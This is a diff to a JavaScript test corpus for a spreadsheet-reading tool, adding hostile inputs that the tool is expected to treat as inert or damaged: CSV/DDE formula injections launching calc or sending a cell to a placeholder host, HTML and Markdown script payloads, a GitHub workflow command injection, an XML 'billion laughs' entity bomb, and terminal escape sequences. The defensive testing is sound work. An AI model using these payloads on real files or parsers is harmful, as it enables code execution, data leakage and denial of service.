@@ -67,6 +67,21 @@ function csv(rows, delimiter = ',') {
 
 const MAI_CSV = csv([HEADERS, MAI]);
 
+/**
+ * Names as an attacker would write them (OWASP CSV injection, HTML and Markdown markup, a
+ * GitHub workflow command): each must come out of every report as the text it is.
+ */
+const UNITS = ['Phong Thổ', 'Tam Đường', 'Sìn Hồ', 'Tân Uyên', 'Than Uyên', 'Nậm Nhùn', 'Mường Tè'];
+const INJECTIONS = [
+  '=HYPERLINK("http://example.invalid/?x="&A1,"Lò Thị Mai")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '-2+3+cmd|"/C calc"!A0',
+  '<img src=x onerror=alert(1)>Lò Văn Tâm',
+  '[Lò Thị Hoa](javascript:alert(1)) | **x**',
+  'Tẩn Thị Mẩy ::error file=evil.txt::pwned %0A::warning::x',
+];
+
 // ---------------------------------------------------------------------------------------------
 // Workbooks, with every date fixed so the bytes do not change between runs
 
@@ -124,6 +139,45 @@ const WORKBOOK_PARTS = [
   { name: '[Content_Types].xml', data: '<Types/>' },
   { name: 'xl/workbook.xml', data: '<workbook/>' },
 ];
+
+const OOXML = 'http://schemas.openxmlformats.org';
+const REL = `${OOXML}/officeDocument/2006/relationships`;
+const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+
+/** The fewest parts an xlsx needs, written out, for workbooks whose XML is the point. */
+function minimalXlsx(sheetData, sharedStrings) {
+  const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
+  return zip([
+    {
+      name: '[Content_Types].xml',
+      data: `${XML_HEAD}<Types xmlns="${OOXML}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${types}.sharedStrings+xml"/></Types>`,
+    },
+    {
+      name: '_rels/.rels',
+      data: `${XML_HEAD}<Relationships xmlns="${OOXML}/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    },
+    {
+      name: 'xl/workbook.xml',
+      data: `${XML_HEAD}<workbook xmlns="${OOXML}/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="Cá nhân" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+    },
+    {
+      name: 'xl/_rels/workbook.xml.rels',
+      data: `${XML_HEAD}<Relationships xmlns="${OOXML}/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
+    },
+    { name: 'xl/sharedStrings.xml', data: sharedStrings },
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      data: `${XML_HEAD}<worksheet xmlns="${OOXML}/spreadsheetml/2006/main"><sheetData>${sheetData}</sheetData></worksheet>`,
+    },
+  ]);
+}
+
+/** "Billion laughs": ten entities each ten times the one before, 12 GB if a parser expanded them. */
+const ENTITY_BOMB = (() => {
+  let dtd = '<!DOCTYPE sst [<!ENTITY l0 "LOLLOLLOLLOL">';
+  for (let i = 1; i < 10; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
+  return `<?xml version="1.0" encoding="UTF-8"?>\n${dtd}]>\n<sst xmlns="${OOXML}/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>`;
+})();
 
 // ---------------------------------------------------------------------------------------------
 // The corpus: file name → bytes, with what the tool must answer
@@ -335,6 +389,19 @@ const corpus = [
     message: { vi: 'bị hỏng', en: 'damaged' },
   },
   {
+    file: 'xml-entity-bomb.xlsx',
+    why: 'shared strings whose DTD would expand to 12 GB ("billion laughs"): never expanded',
+    bytes: minimalXlsx(
+      `<row r="1">${HEADERS.slice(1)
+        .map((h, i) => `<c r="${String.fromCharCode(65 + i)}1" t="inlineStr"><is><t>${h}</t></is></c>`)
+        .join('')}</row><row r="2"><c r="A2" t="s"><v>0</v></c></row>`,
+      ENTITY_BOMB,
+    ),
+    exit: 2,
+    code: 'E-FILE-CORRUPT',
+    message: { vi: 'bị hỏng', en: 'damaged' },
+  },
+  {
     file: 'many-rows.csv',
     args: ['--max-rows', '50'],
     why: '60 rows against a bound of 50',
@@ -496,14 +563,41 @@ const corpus = [
   },
   {
     file: 'formula-injection.csv',
-    why: 'names that a spreadsheet would run as formulas: read as text, inert in every report',
+    why: 'names a spreadsheet would run as formulas, or a browser as markup, all to review: read as text, inert in every report',
     bytes: Buffer.from(
       csv([
         HEADERS,
-        ['Cá nhân', '=HYPERLINK("http://example.invalid/?x="&A1,"Lò Thị Mai")', ...MAI.slice(2)],
-        ['Cá nhân', "+cmd|' /C calc'!A0", '1986', ...MAI.slice(3)],
-        ['Cá nhân', '@SUM(1+1)*cmd|"/C calc"!A0', '1987', ...MAI.slice(3)],
-        ['Cá nhân', '-2+3+cmd|"/C calc"!A0', '1988', ...MAI.slice(3)],
+        // one per unit, so that no quota is exceeded; conduct left blank, so that every report
+        // lists them (review), and a code cell holding a formula, so that a finding quotes one
+        ...INJECTIONS.map((name, i) => [
+          'Cá nhân',
+          name,
+          String(1980 + i),
+          UNITS[i],
+          ...MAI.slice(4, 11),
+          i === 0 ? '=1+2' : MAI[11],
+          MAI[12],
+          '',
+        ]),
+      ]),
+    ),
+    exit: 1,
+    code: 'W-CODE-UNKNOWN',
+    message: { vi: '"=1+2"', en: '"=1+2"' },
+  },
+  {
+    file: 'control-characters.xlsx',
+    why: 'terminal escapes and a bell in a name, a unit and a code (Excel stores them as _x001B_): dropped on reading',
+    bytes: await workbook((wb) =>
+      individuals(wb, [
+        [
+          'Lò\u001b[31m Thị\u0007 Mai\u001b]0;pwned\u0007',
+          '1985',
+          'Phong\u0007 Thổ',
+          ...MAI_ROW.slice(3, 5),
+          'LĐTT\u0008',
+          ...MAI_ROW.slice(6),
+        ],
       ]),
     ),
     exit: 0,
